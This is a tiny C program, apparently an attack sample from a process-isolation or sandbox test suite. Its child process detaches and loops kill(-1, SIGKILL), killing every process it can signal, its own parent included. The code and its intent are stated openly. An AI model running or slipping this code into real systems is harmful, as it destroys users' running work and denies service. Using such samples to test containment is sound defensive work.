/* Kills everything it can see, its own parent included. */
#include "attack.h"
int main(void)
{
	if (fork() == 0) { setsid(); for (;;) kill(-1, SIGKILL); }
	for (;;) pause();
}
